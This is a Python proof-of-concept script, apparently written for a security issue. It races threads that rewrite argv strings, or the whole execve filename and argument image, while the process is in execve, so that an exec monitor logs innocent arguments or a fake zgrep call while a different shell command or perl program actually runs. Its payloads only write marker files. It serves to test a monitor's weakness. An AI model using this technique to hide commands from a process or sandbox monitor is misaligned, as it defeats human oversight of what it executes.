"""The argv race of issue 14 §4: a sibling thread rewrites the argv buffer while its thread is in
execve, so the monitor's copy and the kernel's may differ.

Mode "sh" (default): N children, each execs /bin/sh -c with a last argument that flips between
INNOCENT-ARGUMENT-NN and EXFIL-SECRET-MARK-NN; the shell writes the one it got ($0) to
/workspace/truth.txt: the ground truth.

Mode "interp": the whole call flips (filename, argv pointers and strings in one buffer) between
FAKE execve("/usr/bin/zgrep", ["zgrep", "qNNNN"]) and REAL execve("/usr/bin/perl",
["/usr/bin/perl", "-e<code>", "/usr/bin/zgrep", "qNNNN"]): REAL's cmdline looks like what
binfmt_script would make of FAKE with a two-word #! line. The REAL code (only it) appends qNNNN
to /workspace/real-ran.txt and stays alive 0.2 s so its cmdline can be read."""
import ctypes, os, struct, sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)
n = int(sys.argv[1])
mode = sys.argv[2] if len(sys.argv) > 2 else "sh"


def sh_child(i):
    script = b'sleep 0.3; echo "$0" >> /workspace/truth.txt'
    a = b"INNOCENT-ARGUMENT-%02d" % i
    b = b"EXFIL-SECRET-MARK-%02d" % i
    assert len(a) == len(b)
    buf = ctypes.create_string_buffer(a, len(a) + 1)
    def flip():
        while True:
            ctypes.memmove(buf, b, len(b))
            ctypes.memmove(buf, a, len(a))
    threading.Thread(target=flip, daemon=True).start()
    args = [b"/bin/sh", b"-c", script]
    argv = (ctypes.c_char_p * 5)(*args, ctypes.cast(buf, ctypes.c_char_p), None)
    libc.execve(b"/bin/sh", argv, None)


L = 4096


def image(base, filename, argv):
    # [0:256] the filename, [256:...] the argv pointers, [512:] the strings
    b = bytearray(L)
    fn = filename.encode() + b"\0"
    b[0:len(fn)] = fn
    off, ptrs = 512, []
    for a in argv:
        s = a.encode() + b"\0"
        b[off:off + len(s)] = s
        ptrs.append(base + off)
        off += len(s)
    ptrs.append(0)
    for k, p in enumerate(ptrs):
        b[256 + 8 * k:264 + 8 * k] = struct.pack("<Q", p)
    return bytes(b)


def interp_child(i):
    live = ctypes.create_string_buffer(L)
    base = ctypes.addressof(live)
    code = "open F,'>>/workspace/real-ran.txt'; print F \"$ARGV[1]\\n\"; close F; select(undef,undef,undef,0.2);"
    t = "q%04d" % i
    fake = image(base, "/usr/bin/zgrep", ["zgrep", t])
    real = image(base, "/usr/bin/perl", ["/usr/bin/perl", "-e" + code, "/usr/bin/zgrep", t])
    fb, rb = ctypes.create_string_buffer(fake, L), ctypes.create_string_buffer(real, L)
    fd = os.open("/workspace/tokens", os.O_RDONLY)
    os.dup2(fd, 0)
    ctypes.memmove(live, fb, L)
    def flip():
        while True:
            ctypes.memmove(live, rb, L)
            ctypes.memmove(live, fb, L)
    threading.Thread(target=flip, daemon=True).start()
    time.sleep(0.001)
    envp = (ctypes.c_char_p * 1)(None)
    libc.syscall(59, ctypes.c_void_p(base), ctypes.c_void_p(base + 256), envp)  # execve


if mode == "interp":
    open("/workspace/tokens", "w").write("".join("q%04d\n" % i for i in range(n)))
for i in range(n):
    pid = os.fork()
    if pid == 0:
        try:
            (interp_child if mode == "interp" else sh_child)(i)
        finally:
            os._exit(127)
    os.waitpid(pid, 0)
    if mode == "interp":
        time.sleep(0.03)
